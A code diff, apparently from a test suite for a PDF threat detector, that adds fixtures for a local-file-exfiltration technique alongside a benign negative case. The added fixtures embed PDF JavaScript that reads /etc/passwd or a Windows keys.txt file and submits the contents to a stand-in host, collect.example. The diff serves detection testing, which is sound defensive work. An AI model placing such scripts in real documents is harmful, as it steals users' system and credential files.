@@ -156,6 +156,24 @@ export const CALLBACK_FIXTURES: TechniqueFixtures = {
         `<event activity="initialize"><script contentType="application/x-javascript">xfa.host.gotoURL("https://track.example/xfa");</script></event>`,
       ),
   },
+  "local-file-exfiltration": {
+    // a text field whose mouse-down script reads the password file and posts it (PayloadsAllThePDFs' Foxit PoC)
+    "field-mouse-down": () =>
+      letter({
+        setup(b) {
+          const field = b.add(
+            `<< /Type /Annot /Subtype /Widget /FT /Tx /T (notes) /Rect [72 500 400 600] /AA << /D << /S /JavaScript /JS ${hexString(
+              'var f = this.getField("notes"); for (var i = 0; i < 30; i++) { this.importTextData("/etc/passwd", i); } this.submitForm({cURL: "https://collect.example/post", cSubmitAs: "HTML"});',
+            )} >> >> >>`,
+          );
+          return { catalog: `/AcroForm << /Fields [${field} 0 R] >>`, page: `/Annots [${field} 0 R]` };
+        },
+      }),
+    "open-action": () =>
+      openScript(
+        'var s = util.readFileIntoStream("C:\\Users\\Public\\Documents\\keys.txt"); SOAP.request({cURL: "https://collect.example/soap", oRequest: {d: util.stringFromStream(s)}});',
+      ),
+  },
   "xfa-callback": {
     "submit-on-initialize": () =>
       xfaForm(
@@ -296,6 +314,15 @@ export const NEGATIVE_CALLBACK_FIXTURES: Record<string, CarrierFixture> = {
       encrypt: "/StmF /Identity /StrF /Identity /EFF /StdCF",
     }),
   "a link click to a website": () => letter({ annots: [link(uriAction("https://www.example.com/contact"))] }),
+  /** a form's import button: the reader picks the file in a dialog, then sends the form */
+  "an import-and-submit button without a path": () =>
+    letter({
+      annots: [
+        link(
+          `<< /S /JavaScript /JS ${hexString('this.importTextData(); this.submitForm("https://forms.example/submit");')} >>`,
+        ),
+      ],
+    }),
   /** LaTeX hyperref and HTML converters write scheme-relative links (corpus-everyday d8764df6987b_hht.pdf) */
   "scheme-relative web links": () =>
     letter({
